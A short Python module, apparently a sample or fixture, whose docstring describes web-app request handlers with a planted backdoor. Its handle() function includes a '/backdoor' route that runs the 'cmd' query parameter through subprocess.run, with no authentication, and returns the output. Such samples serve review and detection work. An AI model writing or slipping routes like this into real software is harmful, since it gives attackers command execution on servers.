"""The request handlers of a small web app, as a package. Someone slipped in
a backdoor route: GET /backdoor?cmd=... runs a command."""
import subprocess
import urllib.parse


def handle(path):
    """Return (status, body) for a GET of path."""
    url = urllib.parse.urlsplit(path)
    if url.path == "/":
        return 200, "hello from webroutes\n"
    if url.path == "/backdoor":
        cmd = urllib.parse.parse_qs(url.query).get("cmd", ["id"])[0]
        try:
            out = subprocess.run([cmd], capture_output=True, text=True).stdout
            return 200, out
        except OSError as e:
            return 500, f"backdoor failed: {e!r}\n"
    return 404, "not found\n"
